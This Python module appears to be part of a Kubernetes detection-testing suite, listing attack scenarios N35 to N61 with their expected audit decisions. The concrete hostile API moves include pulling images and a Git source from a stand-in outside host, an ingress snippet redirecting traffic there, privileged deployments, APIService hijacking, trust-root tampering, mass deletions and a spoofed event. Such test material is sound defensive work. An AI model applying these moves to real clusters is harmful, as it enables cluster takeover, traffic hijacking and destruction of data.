"""What no public rule set covers (catalogue N35 to N61): workloads, availability, network, extensions, trust."""

from cluster import objects
from cluster.scenarios.attacks.credentials import approve, ask
from cluster.scenarios.attacks.execution import CREATE_POD, create_pod
from cluster.scenarios.attacks.moves import (
    APPS,
    NETWORKING,
    SYSTEM,
    Attack,
    Move,
    V,
    delete,
    get,
    kubectl,
    patch,
    post,
    together,
)
from cluster.script import Decides

SCHEDULING = "/apis/scheduling.k8s.io/v1/priorityclasses"
FLOW = "/apis/flowcontrol.apiserver.k8s.io/v1/flowschemas"
APIS = "/apis/apiregistration.k8s.io/v1/apiservices"
LEASES = "/apis/coordination.k8s.io/v1/namespaces"
WEB = f"{APPS}/deployments/web"
DEPLOYMENT = Decides(("patch",), "deployments")
SERVICE = Decides(("create",), "services")
PRIVILEGED = [{"op": "add", "path": "/spec/template/spec/containers/0/securityContext", "value": {"privileged": True}}]
EVICTION = {"apiVersion": "policy/v1", "kind": "Eviction", "metadata": {"name": "web-3", "namespace": "victim"}}


def named(api_version: str, kind: str, name: str, **body: object) -> objects.Document:
    """Describe an object without a namespace."""
    return {"apiVersion": api_version, "kind": kind, "metadata": objects.metadata(name), **body}


def image(reference: str) -> Move:
    """Swap a deployment's image."""
    return patch(
        WEB, {"spec": {"template": {"spec": {"containers": [{"name": "web", "image": reference}]}}}}, "strategic"
    )


SNIPPET = {"nginx.ingress.kubernetes.io/configuration-snippet": "return 302 https://203.0.113.66$request_uri;"}
BACKEND = {"service": {"name": "web", "port": {"number": 80}}}
SNIPPED = {
    "apiVersion": "networking.k8s.io/v1",
    "kind": "Ingress",
    "metadata": {"name": "snippet", "annotations": SNIPPET},
    "spec": {"defaultBackend": BACKEND},
}
HIJACKED = named(
    "apiregistration.k8s.io/v1",
    "APIService",
    "v1beta1.hijacked.example.net",
    spec={
        "group": "hijacked.example.net",
        "version": "v1beta1",
        "insecureSkipTLSVerify": True,
        "groupPriorityMinimum": 100,
        "versionPriority": 10,
        "service": {"name": "web", "namespace": "victim"},
    },
)
SPOOFED = {
    "apiVersion": "v1",
    "kind": "Event",
    "metadata": {"name": "all-is-well", "namespace": "victim"},
    "involvedObject": {"kind": "Pod", "namespace": "victim", "name": "web-0"},
    "reason": "Pulling",
    "message": 'Pulling image "aquasec/kube-hunter:latest"',
    "type": "Normal",
    "source": {"component": "kubelet", "host": "node-1"},
}
FLOOD = {"priorityLevelConfiguration": {"name": "workload-high"}, "matchingPrecedence": 2}

ATTACKS = (
    Attack(
        "N35",
        "GitOps object changed by hand",
        Decides(("patch",), "deployments"),
        kubectl("set", "env", "deployment/web", "A=b", "-n", "victim"),
    ),
    Attack(
        "N36",
        "delivery's source changed",
        Decides(("patch",), "applications"),
        patch(
            "/apis/argoproj.io/v1alpha1/namespaces/victim/applications/shop",
            {"spec": {"source": {"repoURL": "https://203.0.113.66/shop.git"}}},
        ),
    ),
    Attack("N37", "image swapped", DEPLOYMENT, image("203.0.113.66:5000/web:latest"), level="Request"),
    Attack(
        "N38", "privilege by JSON patch of a controller", DEPLOYMENT, patch(WEB, PRIVILEGED, "json"), level="Request"
    ),
    Attack(
        "N38",
        "privileged deployment",
        Decides(("create",), "deployments"),
        post(f"{APPS}/deployments", objects.deployment("n38", "victim", hostPID=True)),
        level="Request",
    ),
    Attack(
        "N40",
        "pod put on a node",
        CREATE_POD,
        create_pod("n40", nodeName="node-1", tolerations=[{"operator": "Exists"}]),
        level="Request",
    ),
    Attack(
        "N41",
        "priority over everything",
        Decides(("create",), "priorityclasses"),
        post(SCHEDULING, named("scheduling.k8s.io/v1", "PriorityClass", "first", value=1000000000)),
        level="Request",
    ),
    Attack(
        "N42",
        "request limits lifted",
        Decides(("create",), "flowschemas"),
        post(FLOW, named("flowcontrol.apiserver.k8s.io/v1", "FlowSchema", "flood", spec=FLOOD)),
    ),
    Attack(
        "N43",
        "mass deletion",
        Decides(("delete", "deletecollection")),
        together(
            *(delete(f"{V}/configmaps/file-{number}") for number in range(10)),
            delete(f"{V}/persistentvolumeclaims"),
            delete("/api/v1/persistentvolumes/disk"),
        ),
    ),
    Attack(
        "N44",
        "forced deletion",
        Decides(("delete",), "pods"),
        delete(f"{V}/pods/web-4", {"apiVersion": "v1", "kind": "DeleteOptions", "gracePeriodSeconds": 0}),
        level="Request",
    ),
    Attack(
        "N45",
        "guard rails removed",
        Decides(("delete",)),
        together(
            delete("/apis/policy/v1/namespaces/victim/poddisruptionbudgets/web"),
            delete(f"{V}/resourcequotas/limit"),
            delete(f"{V}/limitranges/limit"),
        ),
    ),
    Attack(
        "N46",
        "address taken over",
        SERVICE,
        post(f"{V}/services", objects.service("n46", "victim", externalIPs=["203.0.113.80"])),
        level="Request",
    ),
    Attack(
        "N46",
        "name for an inner address",
        SERVICE,
        post(
            f"{V}/services",
            {
                "apiVersion": "v1",
                "kind": "Service",
                "metadata": {"name": "n46-name"},
                "spec": {"type": "ExternalName", "externalName": "kubernetes.default.svc"},
            },
        ),
        level="Request",
    ),
    Attack(
        "N47",
        "ingress with a snippet",
        Decides(("create",), "ingresses"),
        post(f"{NETWORKING}/ingresses", SNIPPED),
        level="Request",
    ),
    Attack(
        "N48",
        "API taken over",
        Decides(("create", "delete"), "apiservices"),
        together(post(APIS, HIJACKED), delete(f"{APIS}/v1beta1.hijacked.example.net")),
    ),
    Attack(
        "N49",
        "trust root changed",
        Decides(("patch",), "configmaps"),
        patch(f"{SYSTEM}/configmaps/kube-root-ca.crt", {"data": {"extra.crt": "not a certificate"}}),
    ),
    Attack(
        "N50",
        "leader's lease taken",
        Decides(("patch",), "leases"),
        patch(f"{LEASES}/kube-node-lease/leases/node-3", {"spec": {"holderIdentity": "n50"}}),
    ),
    Attack(
        "N51",
        "nodes cordoned and emptied",
        Decides(),
        together(
            kubectl("cordon", "node-2"), post(f"{V}/pods/web-3/eviction", EVICTION), kubectl("uncordon", "node-2")
        ),
    ),
    Attack(
        "N52",
        "logs of many pods",
        Decides(("get",), "pods", "log"),
        together(*(get(f"{V}/pods/web-{number}/log?container=web") for number in (0, 1, 5, 6))),
    ),
    Attack(
        "N53",
        "scaled up",
        Decides(("patch",), "deployments", "scale"),
        kubectl("scale", "deployment/web", "--replicas=12", "-n", "victim"),
    ),
    Attack(
        "N54",
        "default account poisoned",
        Decides(("patch",), "serviceaccounts"),
        patch(f"{V}/serviceaccounts/default", {"imagePullSecrets": [{"name": "database"}]}),
        level="Request",
    ),
    Attack(
        "N55",
        "a name like another",
        Decides(("create",), "namespaces"),
        post("/api/v1/namespaces", named("v1", "Namespace", "kube-systen")),
    ),
    Attack("N56", "deprecated API", Decides(("list",), "endpoints"), get(f"{V}/endpoints")),
    Attack("N57", "event invented", Decides(("create",), "events"), post(f"{V}/events", SPOOFED)),
    Attack(
        "N60",
        "long certificate",
        Decides(("create",), "certificatesigningrequests"),
        together(ask("n60", "n60-user", expirationSeconds=31536000), approve("n60")),
        level="Request",
    ),
    Attack(
        "N61",
        "runtime class changed",
        Decides(("create",), "runtimeclasses"),
        post("/apis/node.k8s.io/v1/runtimeclasses", named("node.k8s.io/v1", "RuntimeClass", "fast", handler="runc")),
    ),
)
